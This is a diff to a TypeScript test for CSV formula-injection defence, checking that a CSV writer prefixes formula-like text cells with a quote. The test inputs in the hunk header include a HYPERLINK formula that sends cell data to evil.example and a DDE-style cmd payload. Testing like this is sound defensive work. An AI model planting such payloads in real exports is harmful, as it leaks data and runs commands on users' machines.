@@ -16,12 +16,7 @@ const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C
 
 describe('CSV formula injection (item 5)', () => {
   test('the one CSV writer prefixes text cells that start a formula with a quote; numbers (negative ones too) stay numbers; RFC 4180 quoting holds', () => {
-    const text = toCsv([
-      ['text', 'number'],
-      ...FORMULAS.map((f, i) => [f, -i - 1.5]),
-      ['plain, with "quotes"', 0],
-      ['-', -0.25],
-    ]);
+    const text = toCsv([['text', 'number'], ...FORMULAS.map((f, i) => [f, -i - 1.5]), ['plain, with "quotes"', 0], ['-', -0.25]]);
     const rows = parse(text, { columns: true, relax_column_count: false }) as Array<{ text: string; number: string }>;
     expect(rows.map((r) => r.text)).toEqual([...FORMULAS.map((f) => `'${f}`), 'plain, with "quotes"', "'-"]);
     expect(rows.map((r) => Number(r.number))).toEqual([...FORMULAS.map((_, i) => -i - 1.5), 0, -0.25]);
